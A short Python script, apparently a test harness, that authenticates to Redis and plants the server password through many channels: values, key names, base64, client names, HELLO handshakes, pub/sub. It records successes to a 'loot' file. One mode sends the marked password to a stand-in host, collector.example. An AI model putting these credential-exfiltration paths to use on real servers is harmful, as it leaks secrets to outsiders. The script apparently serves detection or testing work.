import base64

from redis import command, converse, login
from rows import each, mark, note

password, host, port = login()
auth = command("AUTH", password)


def perform(row, means):
    # Names of clients hold no blanks.
    both = f"{mark(row)}={password}"
    messages = {
        "value": (host, auth, command("SET", row, both)),
        "key": (host, auth, command("SET", both, "x")),
        "base64": (host, auth, command("SET", row, mark(row) + base64.b64encode(password.encode()).decode())),
        "inline": (host, auth, f"SET {row} {both}\r\n".encode()),
        "client-name": (host, auth, command("CLIENT", "SETNAME", both)),
        "hello-name": (host, auth, command("HELLO", "3", "SETNAME", both)),
        "login-name": (host, command("HELLO", "3", "AUTH", "default", password, "SETNAME", both)),
        "channel": (host, auth, command("PUBLISH", "news", both)),
        "other": ("other.example", auth, command("SET", row, mark(row))),
        "collector": ("collector.example", command("AUTH", both)),
    }
    where, *said = messages[means]
    print(row, converse(where, port, *said))


def use(row):
    if b"OK" in converse(host, port, auth, command("SET", row, mark(row)))[3:]:
        note("loot", mark(row) + "\n")


each(perform, grant=use)
